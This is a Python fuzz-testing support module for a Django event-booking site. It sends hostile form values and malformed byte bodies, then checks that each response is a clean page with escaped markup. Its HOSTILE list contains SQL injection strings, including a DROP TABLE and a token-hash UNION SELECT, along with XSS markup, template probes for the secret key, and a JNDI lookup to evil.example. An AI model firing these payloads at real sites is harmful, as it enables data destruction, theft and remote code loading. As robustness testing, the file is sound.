"""What the fuzzing sends (hostile values, raw bodies, strategies) and how it recognises a
clear answer: the form with its error summary, a booking, or one of our own 4xx pages."""

import os
from urllib.parse import urlencode

from django.urls import reverse
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from bookyourplace.bookings.models import Booking
from bookyourplace.core.testing import booking_form_data, text_of
from bookyourplace.notifications.models import Email

# Sized to keep each test file well under a minute per database; BYP_FUZZ_SCALE=10 searches longer.
SCALE = int(os.environ.get("BYP_FUZZ_SCALE", "1"))
FUZZ = settings(
    max_examples=60 * SCALE,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# What each of our own pages says, so an answer is recognised by its words, not its status.
FORM_ERROR = "There is a problem"
BAD_REQUEST = "Sorry, we could not understand that request"
FORM_EXPIRED = "Your form expired"
NOT_FOUND = "Page not found"
CANNOT_BOOK = "You cannot book a place on"

FIELDS = [
    "first_name",
    "last_name",
    "email",
    "organisation",
    "sector",
    "job_title",
    "line_manager_email",
    "access_needs",
    "consent",
    "waiting_list",
    "csrfmiddlewaretoken",
]

SCRIPT = "<script>alert('booked')</script>"
IMG = '"><img src=x onerror=alert(1)>'
HOSTILE = [
    "a" * 100_000,
    "😀" * 100_000,
    "\x00",
    "Sam\x00Patel",
    "\x00" * 64,
    "".join(chr(c) for c in range(1, 32)),
    "\x7f\x80\x85\x9f",
    "' OR '1'='1",
    "'; DROP TABLE bookings_booking; --",
    "1) UNION SELECT manage_token_hash FROM bookings_booking --",
    "sam@nhs.net' --",
    SCRIPT,
    IMG,
    "javascript:alert(1)",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "%s%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "ѕаm.раtеl@nhs.net",  # Cyrillic look-alikes
    "ｓａｍ＠ｎｈｓ．ｎｅｔ",  # full-width
    "sam@nhs.net\u200b",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "\u202egnp.exe\u202c",
    "\u200f\u200e\u061c",
    "\ufeffSam",
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
    "\ud7ff\ue000\uffff\U0010ffff",
    "",
    " ",
    "\t\r\n",
    "yes",
    "no",
    "0",
    "-1",
    "99999999999999999999999999",
    "NaN",
    "null",
    "[]",
    "{}",
]
# Sent as bytes, because a str cannot hold them: invalid UTF-8, encoded surrogates, broken escapes.
RAW_BODIES = [
    b"first_name=\xff\xfe&last_name=\xc0\xaf&email=sam\xe9@nhs.net&consent=yes&sector=health",
    b"first_name=\xed\xa0\x80&last_name=\xed\xbf\xbf&organisation=\xf4\x90\x80\x80&consent=yes",
    b"first_name=%ED%A0%80&last_name=%FF%FE&email=%C0%80%40nhs.net&sector=%00&consent=%00",
    b"first_name=%&last_name=%%&email=%zz&sector=%u0041&consent=%",
    b"=&=&&==&&&",
    b"first_name",
    b"first_name=Sam;last_name=Patel",
    b"\x00\x00\x00\x00",
    b"\xff" * 1000,
    b"waiting_list=%00yes&waiting_list=YES&waiting_list=yes%00",
]


def short_id(value) -> str:
    """A readable test id for a value that may be 100,000 characters long."""
    text = ascii(value)
    return text if len(text) <= 40 else f"{text[:30]}...({len(value)})"


# --- The site's addresses, and the booking that must survive (conftest.py: site) ---------------


def assert_bystander_untouched(site):
    assert Booking.objects.filter(pk=site.bystander.pk).values().get() == site.bystander_row
    assert Email.objects.filter(booking=site.bystander).count() == site.bystander_emails
    assert Booking.objects.filter(email="bystander@coventry.gov.uk").count() == 1


def book_path(session):
    return reverse("public:book", kwargs={"programme_slug": session.programme.slug, "session_id": session.pk})


def confirmed_path(session):
    return reverse(
        "public:booking_confirmed", kwargs={"programme_slug": session.programme.slug, "session_id": session.pk}
    )


def public_get_paths(site):
    session = site.open_session
    token = site.bystander_token
    return [
        "/",
        # /privacy/ and /accessibility/ send a site with one organiser to these.
        f"/organisers/{site.programme.organiser.slug}/privacy/",
        f"/organisers/{site.programme.organiser.slug}/accessibility/",
        site.programme.get_absolute_url(),
        session.get_absolute_url(),
        book_path(session),
        confirmed_path(session),
        f"/booking/{token}/",
        f"/booking/{token}/calendar.ics",
        f"/booking/{token}/cancel/",
        f"/brand/{site.programme.organiser.slug}.css",
    ]


# --- What a clear answer is -----------------------------------------------------------------


def assert_our_page(response, words):
    assert response.status_code < 500
    page = text_of(response)
    assert words in page, (response.status_code, page[:300])
    assert "Traceback" not in page and "Exception" not in page


def assert_clear_answer_to_booking(response, session, sent=()):
    """A booking form answers with the form and its error summary, the confirmation (a
    redirect to "check your email", whether or not the address had booked), 'you cannot
    book', or one of our 4xx pages."""
    status = response.status_code
    assert status < 500, status
    if status == 302:
        assert response["Location"] == confirmed_path(session)
        return
    page = text_of(response)
    expected = {200: (FORM_ERROR,), 400: (BAD_REQUEST,), 409: (CANNOT_BOOK,)}[status]
    assert any(words in page for words in expected), (status, page[:300])
    if FORM_ERROR in page:
        # The form is shown again, every problem listed above it.
        assert "govuk-error-summary" in response.content.decode()
        assert "<form" in response.content.decode()
    for payload in (SCRIPT, IMG):
        if any(payload in value for value in sent):
            assert payload.encode() not in response.content, "hostile markup came back unescaped"


# --- Strategies -----------------------------------------------------------------------------

# Any text, including control characters and NUL (surrogates cannot be sent as text: see RAW_BODIES).
any_text = st.text(st.characters(codec="utf-8"), max_size=300)
hostile_value = st.one_of(
    st.sampled_from([h for h in HOSTILE if len(h) < 1000]),
    any_text,
    st.text(st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp", "Mn", "So"]), max_size=40),
    st.sampled_from(["health", "schools", "other", "yes", "on", "true", "sam.patel@nhs.net"]),
)
field_value = hostile_value | st.lists(hostile_value, min_size=2, max_size=4)  # lists: duplicated fields


@st.composite
def booking_posts(draw):
    """Form fields as pairs (so a name can repeat): sometimes a valid form with a few fields
    spoiled, sometimes nothing but noise; plus stray fields."""
    data = booking_form_data(email=f"{draw(st.integers(0, 10**6))}@nhs.net") if draw(st.booleans()) else {}
    for name in draw(st.lists(st.sampled_from(FIELDS), unique=True, max_size=len(FIELDS))):
        data[name] = draw(field_value)
    extra = draw(st.dictionaries(st.text(st.characters(codec="utf-8"), max_size=30), hostile_value, max_size=5))
    pairs = []
    for name, value in [*data.items(), *extra.items()]:
        pairs.extend((name, v) for v in (value if isinstance(value, list) else [value]))
    return pairs


def encoded(pairs) -> bytes:
    return urlencode(pairs).encode()
